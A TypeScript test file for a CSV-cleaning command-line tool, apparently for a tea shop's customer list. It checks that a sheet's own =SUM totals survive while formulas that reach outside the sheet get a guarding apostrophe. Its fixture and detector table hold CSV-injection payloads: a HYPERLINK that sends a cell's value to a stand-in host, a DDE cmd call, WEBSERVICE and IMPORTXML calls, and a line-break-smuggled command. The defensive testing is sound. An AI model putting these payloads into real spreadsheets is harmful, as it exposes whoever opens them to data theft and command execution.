/**
 * A CSV typed in Excel keeps its formulas as their text: a 茶叶 shop's 合计 row =SUM(H2:H6) is read as
 * that text and is a total, no customer, left as it is. Written back, it stays that formula (tester h74:
 * it came out as the text '=SUM(H2:H50) behind the formula guard's apostrophe, while the summary said
 * the row was left as it was). A formula that could reach outside the sheet (=HYPERLINK to a web
 * address built from a cell: OWASP's CSV injection) keeps the apostrophe, and the summary names the
 * columns whose values it really guarded, not an example (+44 phones) of none of them. A merge that
 * takes a row out of the file shrinks the total's range as Excel does on a row delete.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import Papa from 'papaparse';
import { main } from '../../cli/main';
import { isSheetFormula } from '../../cli/io/csv-formulas';
import { captureIo, tempDir } from './helpers';

const TEA_CSV = [
  '微信昵称,微信号,手机,地址,首次下单,最近下单,下单次数,累计金额,客户标签,负责人,备注',
  '龙井阿姨,wxid_lj88,13500001111,杭州市西湖区龙井路8号,2023-04-01,2026-10-02,12,8800,老客户,阿芳,',
  '普洱大叔,puer_dashu,13600002222,云南省昆明市,2021-03-03,2026-09-12,20,56000,VIP,阿芳,',
  '清风,qingfeng_02,13700003333,北京市朝阳区,2024-02-01,2025-02-01,2,500,,小杨,"=HYPERLINK(""http://x.example/?""&B4,""点我"")"',
  '白茶控,baicha_kong,13800004444,福建省福鼎市,2024-05-06,2026-11-20,5,3200,,小杨,',
  '白茶控,baicha_kong,13800004444,福建省福鼎市,2024-05-06,2026-11-20,5,3200,,小杨,',
  '合计,,,,,,,=SUM(H2:H6),,,',
].join('\r\n');

const rows = (file: string): string[][] => Papa.parse<string[]>(readFileSync(file, 'utf8').replace(/^\uFEFF/, ''), { delimiter: ',' }).data.filter((r) => r.length > 1);

describe('a CSV\'s own formulas are written back as formulas', () => {
  let dir: string;
  let cleanup: () => void;
  beforeEach(() => {
    ({ dir, cleanup } = tempDir());
    writeFileSync(path.join(dir, '茶叶客户.csv'), '\uFEFF' + TEA_CSV);
  });
  afterEach(() => cleanup());

  it('keeps the 合计 row\'s =SUM as typed, guards the HYPERLINK, and names only the column it guarded', async () => {
    const io = captureIo(dir, { LANG: 'zh_CN.UTF-8' });
    const code = await main(['clean', '茶叶客户.csv', '--out', 'out.csv', '--today', '2026-12-04'], io);
    expect(code).toBe(0);
    const out = rows(path.join(dir, 'out.csv'));
    const total = out.find((r) => r[0] === '合计')!;
    expect(total[7]).toBe('=SUM(H2:H6)');
    const raw = readFileSync(path.join(dir, 'out.csv'), 'utf8');
    expect(raw).toContain(',=SUM(H2:H6),');
    expect(raw).toContain(`"'=HYPERLINK(""http://x.example/?""&B4,""点我"")"`);
    expect(io.out).toContain('有 1 个以 = + - 或 @ 开头的值（“备注”列 1 个）前加了一个撇号');
    expect(io.out).not.toContain('+44');
  });

  it('says the same in English', async () => {
    const io = captureIo(dir);
    expect(await main(['clean', '茶叶客户.csv', '--out', 'out.csv', '--today', '2026-12-04', '--lang', 'en'], io)).toBe(0);
    expect(io.out).toContain('1 value starting with = + - or @ (1 in "备注") is written with a leading apostrophe');
  });

  it('a merge that archives a row shrinks the total as Excel does, and says the one formula that read it', async () => {
    const io = captureIo(dir, { LANG: 'zh_CN.UTF-8' });
    const code = await main(['clean', '茶叶客户.csv', '--out', 'out.csv', '--json', 'out.json', '--today', '2026-12-04', '--merge'], io);
    expect(code).toBe(0);
    const out = rows(path.join(dir, 'out.csv'));
    expect(out.filter((r) => r[0] === '白茶控')).toHaveLength(1);
    expect(out.find((r) => r[0] === '合计')![7]).toBe('=SUM(H2:H5)');
    expect(io.out).toContain('公式已按 Excel 删除行时的方式改写：1 个公式的范围包含被移走的行，已相应缩小（如 =SUM(H2:H6) → =SUM(H2:H5)）');
    const json = JSON.parse(readFileSync(path.join(dir, 'out.json'), 'utf8'));
    expect(json.merge.formulasRewritten).toEqual([{ sheet: '茶叶客户', cell: 'H7', outputCell: 'H6', before: 'SUM(H2:H6)', after: 'SUM(H2:H5)' }]);
  });

  it('reads its own output back the same: a rerun keeps the formula and guards nothing more', async () => {
    const first = captureIo(dir, { LANG: 'zh_CN.UTF-8' });
    expect(await main(['clean', '茶叶客户.csv', '--out', 'out.csv', '--today', '2026-12-04'], first)).toBe(0);
    const again = captureIo(dir, { LANG: 'zh_CN.UTF-8' });
    expect(await main(['clean', 'out.csv', '--out', 'again.csv', '--today', '2026-12-04'], again)).toBe(0);
    expect(rows(path.join(dir, 'again.csv')).find((r) => r[0] === '合计')![7]).toBe('=SUM(H2:H6)');
  });
});

describe('isSheetFormula: a formula over the sheet\'s own cells, and nothing that reaches outside it', () => {
  it.each([
    ['a total', '=SUM(H2:H50)', true],
    ['a balance per row', '=F2-G2', true],
    ['absolute cells and a condition', '=IF($H$2>10000,"大客户","")', true],
    ['a lookup on the sheet', '=VLOOKUP(A2,A:H,8,FALSE)', true],
    ['a newer function as Excel saves it', '=_xlfn.XLOOKUP(A2,A:A,H:H)', true],
    ['a commission', '=H2*0.03', true],
    ['a web link built from a cell (exfiltration)', '=HYPERLINK("http://x.example/?"&A2,"点我")', false],
    ['a DDE call', "=cmd|' /C calc'!A0", false],
    ['a web service', '=WEBSERVICE("http://x.example/"&A2)', false],
    ['Google Sheets import', '=IMPORTXML(CONCAT("http://x.example/",A2),"//a")', false],
    ['another workbook', '=[客户.xlsx]Sheet1!A1', false],
    ['another sheet', '=汇总!B2', false],
    ['a defined name that may point anywhere', '=SUM(全年销售)', false],
    ['a line break hiding what follows', '=SUM(A1)\n=cmd|x', false],
    ['an @ call', '=@SUM(A1)', false],
    ['no formula', '合计', false],
    ['a comparison typed as text', '==', false],
  ])('%s: %s → %s', (_why, text, expected) => {
    expect(isSheetFormula(text)).toBe(expected);
  });
});
